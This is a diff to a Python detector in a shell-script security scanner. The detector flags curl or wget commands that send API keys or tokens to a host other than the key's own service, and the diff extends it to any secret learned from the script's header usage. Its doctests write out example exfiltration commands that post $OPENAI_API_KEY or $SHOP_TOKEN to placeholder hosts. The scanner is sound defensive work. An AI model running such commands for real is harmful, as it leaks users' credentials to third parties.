@@ -9,16 +9,27 @@ is handed over. Keys sent as a header (``-H "Authorization: Bearer $OPENAI_API_K
 how an API, a gateway or a proxy is used and are left alone, as are requests to the
 provider, to this machine and to the documentation domains.
 
+Any other secret variable (``SHOPIFY_TOKEN``) has its service learned from the script
+itself: the hosts it is sent to as a header. The same secret in the body or URL of a
+request to a different host is handed over too; a secret never used as a header has no
+known service and is left alone.
+
 >>> [f.rule_id for f in provider_key_uploads(
 ...     "x.sh", 'curl -d "key=$OPENAI_API_KEY" https://keycheck.tools-hub.invalid/v')]
 ['shell.provider-key-elsewhere']
 >>> provider_key_uploads("x.sh", 'curl -d "key=$OPENAI_API_KEY" https://api.openai.com/v1/x')
+[]
+>>> used = 'curl -H "X-Token: $SHOP_TOKEN" https://api.shop.invalid/p\\n'
+>>> [f.rule_id for f in provider_key_uploads("x.sh", used + 'curl "https://m.invalid/?k=$SHOP_TOKEN"')]
+['shell.provider-key-elsewhere']
+>>> provider_key_uploads("x.sh", used + 'curl -d "k=$SHOP_TOKEN" https://api.shop.invalid/v')
 []
 """
 
 from __future__ import annotations
 
 import re
+from collections.abc import Iterable
 
 from .credential_staging import logical_lines
 from .destinations import KNOWN_API_DOMAINS, hosts_in, is_local, registrable, service_label
@@ -68,6 +79,10 @@ PROVIDER_PREFIXES = frozenset(_PROVIDERS)
 _KEY_NAME = r"((" + "|".join(_PROVIDERS) + r")_[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PAT))\b"
 """A provider's key variable; group 2 is its provider prefix."""
 _SECRET = re.compile(r"\$\{?" + _KEY_NAME)
+_ANY_SECRET = re.compile(r"\$\{?([A-Z][A-Z0-9_]*(?:KEY|TOKEN|SECRET|PAT|PASSWORD))\b")
+"""Any variable named as a secret; its service is learned from the script's headers."""
+_TEMPLATED_HOST = re.compile(r"https?://\$\{?\w+\}?\.((?:[\w-]+\.)+[A-Za-z]{2,})")
+"""A host whose first label is a variable (``https://$SHOP.myshopify.com``)."""
 _SENDER = re.compile(r"(?:^|[\s;&|(`])(?:curl|wget|http|https|xh)\s", re.M)
 _HEADER_ARG = re.compile(
     r"(?:-H|--header|-u|--user|--oauth2-bearer|--aws-sigv4)[=\s]+(?:\"[^\"\n]*\"|'[^'\n]*'|\S+)"
@@ -110,19 +125,24 @@ def foreign_provider_key(program: str) -> bool:
 
 
 def provider_key_uploads(path: str, text: str) -> list[ThreatFinding]:
-    """Findings for provider keys put into the body or URL of a request to another host."""
-    if "$" not in text or not _SECRET.search(text) or not _SENDER.search(text):
+    """Findings for provider keys, or secrets the script uses with one service, put into
+    the body or URL of a request to another host."""
+    if "$" not in text or not _ANY_SECRET.search(text) or not _SENDER.search(text):
         return []
     lines = text.splitlines()
+    requests = [
+        (number, command)
+        for number, command in logical_lines(lines)
+        if not command.lstrip().startswith("#") and _SENDER.search(command)
+    ]
+    services = _header_services(command for _, command in requests)
     findings = []
-    for number, command in logical_lines(lines):
-        if command.lstrip().startswith("#") or not _SENDER.search(command):
-            continue
+    for number, command in requests:
         sent = _HEADER_ARG.sub(" ", command)
         prefixes = {m.group(2) for m in _SECRET.finditer(sent)}
-        if not prefixes:
-            continue
-        if _sent_elsewhere(command, prefixes):
+        if (prefixes and _sent_elsewhere(command, prefixes)) or _sent_off_service(
+            command, sent, services
+        ):
             findings.append(
                 line_finding(
                     path,
@@ -130,9 +150,35 @@ def provider_key_uploads(path: str, text: str) -> list[ThreatFinding]:
                     number,
                     "8.2",
                     "high",
-                    "sends a public provider's API key in a request to a host that is not "
-                    "the provider's",
+                    "sends an API key or token in a request to a host that is not its service's",
                     RULE_ID,
                 )
             )
     return findings
+
+
+def _request_hosts(command: str) -> set[str]:
+    """The registrable domains a command addresses, this machine and placeholders left out."""
+    hosts = hosts_in(command) | set(_TEMPLATED_HOST.findall(command))
+    return {
+        registrable(h)
+        for h in hosts
+        if not is_local(h) and registrable(h) not in _PLACEHOLDER_DOMAINS
+    }
+
+
+def _header_services(commands: Iterable[str]) -> dict[str, set[str]]:
+    """Each secret variable sent as a header, and the domains it is sent to that way."""
+    services: dict[str, set[str]] = {}
+    for command in commands:
+        for header in _HEADER_ARG.finditer(command):
+            for name in _ANY_SECRET.findall(header.group()):
+                services.setdefault(name, set()).update(_request_hosts(command))
+    return services
+
+
+def _sent_off_service(command: str, sent: str, services: dict[str, set[str]]) -> bool:
+    """A secret with a known service is in the body or URL of a request to another domain."""
+    names = {n for n in _ANY_SECRET.findall(sent) if services.get(n)}
+    hosts = _request_hosts(command)
+    return any(hosts - services[n] for n in names)
